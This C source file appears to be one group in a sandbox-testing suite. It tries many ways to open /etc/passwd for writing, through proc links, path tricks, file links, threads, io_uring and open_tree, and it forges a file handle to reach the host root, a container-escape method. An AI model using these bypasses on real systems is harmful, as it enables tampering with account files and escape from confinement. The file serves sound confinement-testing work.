/*
 * One and the same file, the list of accounts, by every other name and every other way to open it to write. A check
 * of names would miss some of them; a check of objects misses none.
 */
#include "uring.h"
#include "rows.h"
#include "sys.h"
#include "tools.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <string.h>
#include <sys/mman.h>

#define TARGET "/etc/passwd"

static void took(struct vxe_attack *attack, long fd, const char *call, const char *step)
{
	if (fd < 0) {
		attack_failed(attack, fd, call, "%s", step);
		return;
	}
	attack_close(fd);
	attack_succeeded(attack, call, "%s: open to write", step);
}

static void by_path(struct vxe_attack *attack, const char *path)
{
	took(attack, attack_open(path, O_WRONLY | O_APPEND | O_CLOEXEC, 0), "openat", path);
}

static void by_old_open(struct vxe_attack *attack)
{
	took(attack, sys3(SYS_open, TARGET, O_WRONLY | O_APPEND, 0), "open", TARGET);
}

static void by_openat2(struct vxe_attack *attack)
{
	struct open_how how = {.flags = O_WRONLY | O_APPEND};

	took(attack, sys4(SYS_openat2, AT_FDCWD, TARGET, &how, sizeof(how)), "openat2", TARGET);
}

static void by_root_link(struct vxe_attack *attack)
{
	by_path(attack, "/proc/self/root" TARGET);
}

static void by_thread_root_link(struct vxe_attack *attack)
{
	by_path(attack, "/proc/thread-self/root" TARGET);
}

static void by_cwd_link(struct vxe_attack *attack)
{
	long ret = sys1(SYS_chdir, "/etc");

	if (ret < 0)
		attack_failed(attack, ret, "chdir", "go to /etc");
	by_path(attack, "/proc/self/cwd/passwd");
}

static void by_dots(struct vxe_attack *attack)
{
	by_path(attack, "/../../../../../etc/./../etc//passwd");
}

static void by_relative(struct vxe_attack *attack)
{
	long ret = sys1(SYS_chdir, "/etc");

	if (ret < 0) {
		attack_failed(attack, ret, "chdir", "go to /etc");
		return;
	}
	by_path(attack, "passwd");
}

static void by_folder_descriptor(struct vxe_attack *attack)
{
	long folder = attack_open("/etc", O_PATH | O_DIRECTORY | O_CLOEXEC, 0);

	if (folder < 0)
		folder = attack_open("/etc", O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);
	if (folder < 0) {
		attack_failed(attack, folder, "openat", "open /etc");
		return;
	}
	took(attack, sys4(SYS_openat, folder, "passwd", O_WRONLY | O_APPEND, 0), "openat", "passwd, from a descriptor of /etc");
}

static void reopen(struct vxe_attack *attack, int flags, const char *what)
{
	char path[64];
	long fd = attack_open(TARGET, flags | O_CLOEXEC, 0);

	if (fd < 0) {
		attack_failed(attack, fd, "openat", "open " TARGET " %s", what);
		return;
	}
	attack_format(path, sizeof(path), "/proc/self/fd/%ld", fd);
	by_path(attack, path);
	attack_format(path, sizeof(path), "/dev/fd/%ld", fd);
	by_path(attack, path);
}

static void by_reopen(struct vxe_attack *attack)
{
	reopen(attack, O_RDONLY, "to read");
}

static void by_reopen_path(struct vxe_attack *attack)
{
	reopen(attack, O_PATH, "as a mere place");
}

static void by_symlink(struct vxe_attack *attack)
{
	const char *folder = attack_writable_dir(attack);
	char path[ATTACK_PATH];

	if (!folder)
		return;
	attack_format(path, sizeof(path), "%s/vxe-attack-symlink", folder);
	long ret = sys2(SYS_symlink, TARGET, path);
	if (ret < 0)
		ret = sys3(SYS_symlinkat, TARGET, AT_FDCWD, path);
	/* Another attempt may have made just that, and not been allowed to remove it. */
	if (ret < 0 && ret != -EEXIST) {
		attack_failed(attack, ret, "symlink", "make a link to " TARGET " in %s", folder);
		return;
	}
	by_path(attack, path);
	attack_unlink(path);
}

static void by_hard_link(struct vxe_attack *attack)
{
	const char *folder = attack_writable_dir(attack);
	char path[ATTACK_PATH];

	if (!folder)
		return;
	attack_format(path, sizeof(path), "%s/vxe-attack-hardlink", folder);
	long ret = sys2(SYS_link, TARGET, path);
	if (ret < 0)
		ret = sys5(SYS_linkat, AT_FDCWD, TARGET, AT_FDCWD, path, 0);
	if (ret < 0) {
		attack_failed(attack, ret, "link", "link " TARGET " into %s", folder);
		return;
	}
	by_path(attack, path);
	attack_unlink(path);
}

static void by_grandchild(struct vxe_attack *attack)
{
	long pid = sys_fork();

	if (pid < 0) {
		attack_failed(attack, pid, "clone", "fork a child");
		return;
	}
	if (pid == 0) {
		pid = sys_fork();
		if (pid == 0) {
			by_path(attack, TARGET);
			sys_exit(0);
		}
		if (pid < 0)
			attack_failed(attack, pid, "clone", "fork a grandchild");
		else
			attack_wait(pid);
		sys_exit(0);
	}
	if (attack_wait(pid) < 0)
		attack_sleep_ms(20);
}

struct thread_order {
	struct vxe_attack *attack;
	_Atomic int done;
};

static void thread_body(void *arg)
{
	struct thread_order *order = arg;

	by_path(order->attack, TARGET);
	atomic_store(&order->done, 1);
}

static void by_thread(struct vxe_attack *attack)
{
	static struct thread_order order;
	static char stack[65536] __attribute__((aligned(16)));

	order.attack = attack;
	long ret = sys_thread(thread_body, &order, stack + sizeof(stack));
	if (ret < 0) {
		attack_failed(attack, ret, "clone", "start a thread");
		return;
	}
	for (int i = 0; i < 1000 && !atomic_load(&order.done); i++)
		attack_sleep_ms(1);
}

static void by_handle(struct vxe_attack *attack)
{
	struct {
		unsigned int size;
		int type;
		unsigned char bytes[128];
	} handle = {.size = sizeof(handle.bytes)};
	int mount_id;
	long folder, ret;

	/* tmpfs, ext4 and the like give handles; overlayfs as a rule does not. */
	static const char *const places[] = {TARGET, "/dev/shm", "/tmp", "/dev", "/run"};
	for (size_t i = 0; i < COUNT_OF(places); i++) {
		handle.size = sizeof(handle.bytes);
		ret = sys5(SYS_name_to_handle_at, AT_FDCWD, places[i], &handle, &mount_id, 0);
		if (ret < 0) {
			attack_failed(attack, ret, "name_to_handle_at", "make a handle of %s", places[i]);
			continue;
		}
		folder = attack_open(places[i], O_RDONLY | O_CLOEXEC, 0);
		ret = sys3(SYS_open_by_handle_at, folder < 0 ? AT_FDCWD : folder, &handle, O_RDONLY);
		attack_close(folder);
		if (ret >= 0) {
			attack_close(ret);
			attack_succeeded(attack, "open_by_handle_at", "%s was opened without its path", places[i]);
			return;
		}
		attack_failed(attack, ret, "open_by_handle_at", "open %s by its handle", places[i]);
	}
}

/* A handle needs no path: inode 2 is the root of the host's ext4 file system, whatever tree is mounted from it. */
static void by_forged_handle(struct vxe_attack *attack)
{
	static const char *const places[] = {"/", "/etc", "/usr", "/var/mail", "/dev/shm"};
	struct {
		unsigned int size;
		int type;
		uint32_t inode, generation;
	} handle = {.size = 8, .type = 1, .inode = 2};

	for (size_t i = 0; i < COUNT_OF(places); i++) {
		long place = attack_open(places[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);

		if (place < 0) {
			attack_failed(attack, place, "openat", "open %s", places[i]);
			continue;
		}
		long ret = sys3(SYS_open_by_handle_at, place, &handle, O_RDONLY | O_DIRECTORY);
		attack_close(place);
		/* ESTALE and EOPNOTSUPP are told only to those who may open by handle at all. */
		if (ret >= 0 || ret == -ESTALE || ret == -EOPNOTSUPP) {
			attack_close(ret);
			attack_succeeded(attack, "open_by_handle_at", "from %s: %s", places[i],
					 ret >= 0 ? "the file system's root is open"
						  : "the call is let through, only this handle is wrong");
			return;
		}
		attack_failed(attack, ret, "open_by_handle_at", "open the file system's root from %s", places[i]);
	}
}

#define EVENT "openat(\"" TARGET "\", O_WRONLY)"

/* The same opening, for a ring. */
static const struct io_uring_sqe by_operation = {
	.opcode = IORING_OP_OPENAT,
	.fd = AT_FDCWD,
	.addr = (uintptr_t)TARGET,
	.open_flags = O_WRONLY | O_APPEND,
};

static void by_io_uring(struct vxe_attack *attack)
{
	long result;

	attack_event(attack, EVENT);
	if (attack_ring(attack, &by_operation, &result))
		took(attack, result, "io_uring_enter", TARGET " by a ring");
}

static void by_ring_thread(struct vxe_attack *attack)
{
	long result;

	attack_event(attack, EVENT);
	if (attack_polled_ring(attack, &by_operation, &result))
		took(attack, result, "io_uring_enter", TARGET " by a ring's thread");
}

static void by_fsopen_descriptor(struct vxe_attack *attack)
{
	/* open_tree without a clone gives a descriptor like O_PATH, by another call. */
	long fd = sys3(SYS_open_tree, AT_FDCWD, TARGET, 0);
	char path[64];

	if (fd < 0) {
		attack_failed(attack, fd, "open_tree", "take hold of " TARGET);
		return;
	}
	attack_format(path, sizeof(path), "/proc/self/fd/%ld", fd);
	by_path(attack, path);
}

#define GROUP "aliases"
#define CONTROL "The list of accounts is open to write."
#define ROW(name, tries, events, run)                                                                                          \
	{                                                                                                                      \
		name, GROUP, tries, CONTROL, events, VXE_NO_CAPABILITY, run                                                    \
	}

static const struct vxe_attack_row rows[] = {
	ROW("alias-open", "Opens the list of accounts to write by the old call open.", "open(\"" TARGET "\", O_WRONLY)",
	    by_old_open),
	ROW("alias-openat2", "The same by openat2, which passes its flags in memory.", "openat2(\"" TARGET "\")", by_openat2),
	ROW("alias-proc-root", "The same through /proc/self/root.", EVENT, by_root_link),
	ROW("alias-thread-root", "The same through /proc/thread-self/root.", EVENT, by_thread_root_link),
	ROW("alias-proc-cwd", "The same through /proc/self/cwd.", EVENT, by_cwd_link),
	ROW("alias-dots", "The same by a path with dots in it.", EVENT, by_dots),
	ROW("alias-relative", "The same by a relative path.", EVENT, by_relative),
	ROW("alias-dirfd", "The same from a descriptor of its folder.", EVENT, by_folder_descriptor),
	ROW("alias-reopen", "Opens it to read and again to write through /proc/self/fd.", EVENT, by_reopen),
	ROW("alias-reopen-path", "Opens it with O_PATH and again to write through /proc/self/fd.", EVENT, by_reopen_path),
	ROW("alias-open-tree", "Takes hold of it by open_tree and opens that to write.", EVENT, by_fsopen_descriptor),
	ROW("alias-symlink", "The same through a symbolic link in a folder that it may write to.", EVENT, by_symlink),
	ROW("alias-hardlink", "The same through a hard link in a folder that it may write to.", EVENT, by_hard_link),
	ROW("alias-grandchild", "The same from a grandchild.", EVENT, by_grandchild),
	ROW("alias-thread", "The same from a thread.", EVENT, by_thread),
	ROW("alias-io-uring", "The same by a ring, whose operations no filter sees.", NULL, by_io_uring),
	ROW("alias-ring-thread", "The same by a ring with a thread of its own, which has the rights of who made it.", NULL,
	    by_ring_thread),
	{"alias-handle", GROUP, "Opens a file by its handle, without a path.", "It is open.", "open_by_handle_at()",
	 VXE_NO_CAPABILITY, by_handle},
	{"alias-forged-handle", GROUP, "Forges the handle of the host file system's root.", "The kernel looks the handle up.",
	 "open_by_handle_at()", VXE_NO_CAPABILITY, by_forged_handle},
};

const struct vxe_attack_group vxe_attack_aliases = {rows, COUNT_OF(rows)};
